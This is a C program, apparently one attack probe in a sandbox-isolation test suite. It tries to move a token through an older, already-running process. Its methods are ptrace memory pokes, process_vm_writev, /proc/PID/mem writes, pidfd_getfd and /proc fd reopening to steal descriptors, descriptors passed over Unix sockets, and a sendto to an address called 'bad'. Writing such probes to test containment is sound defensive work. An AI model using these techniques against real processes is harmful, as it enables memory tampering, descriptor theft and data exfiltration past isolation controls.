// Through a process that was there before.
#include "attack.h"
#include <sys/ptrace.h>

static int dial(char asked) {
    struct sockaddr_un path = {.sun_family = AF_UNIX, .sun_path = "older.sock"};
    int fd = must(socket(AF_UNIX, SOCK_STREAM, 0));
    must(connect(fd, SA(&path), sizeof path));
    must(write(fd, &asked, 1));
    return fd;
}
static int receive(char asked) {
    union { char bytes[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } control;
    char byte;
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    must(recvmsg(dial(asked), &m, 0));
    int fd;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
    return fd;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    void *mailbox;
    int connected;
    FILE *file = fopen("older", "r");
    if (!file || fscanf(file, "%p %d", &mailbox, &connected) != 2) return 2;
    size_t size = strlen(token) + 1;
    char name[64];
    if (is("ptrace")) {
        must(ptrace(PTRACE_SEIZE, older, 0, 0));
        must(ptrace(PTRACE_INTERRUPT, older, 0, 0));
        must(waitpid(older, NULL, __WALL));
        for (size_t at = 0; at < size; at += sizeof(long)) {
            long word = 0;
            memcpy(&word, token + at, size - at < sizeof word ? size - at : sizeof word);
            must(ptrace(PTRACE_POKEDATA, older, (char *)mailbox + at, word));
        }
        must(ptrace(PTRACE_DETACH, older, 0, 0));
    } else if (is("write")) {
        struct iovec from = {(void *)token, size}, to = {mailbox, size};
        must(process_vm_writev(older, &from, 1, &to, 1, 0));
    } else if (is("mem")) {
        snprintf(name, sizeof name, "/proc/%d/mem", older);
        must(pwrite(must(open(name, O_WRONLY)), token, size, (off_t)(long)mailbox));
    } else if (is("getfd")) {
        int process = must(syscall(SYS_pidfd_open, older, 0));
        write_token(must(syscall(SYS_pidfd_getfd, process, connected, 0)));
    } else if (is("reopen")) {
        snprintf(name, sizeof name, "/proc/%d/fd/%d", older, connected);
        write_token(must(open(name, O_WRONLY)));
    } else if (is("passed-loose")) {
        struct sockaddr_in a = in4(bad);
        must(sendto(receive('l'), token, size, 0, SA(&a), sizeof a));
    } else if (is("passed-connected")) write_token(receive('c'));
    else if (is("errand")) { char end; must(read(dial('b'), &end, 1)); }
    else return 2;
    // Until it has looked into its mailbox.
    usleep(200000);
    return 0;
}
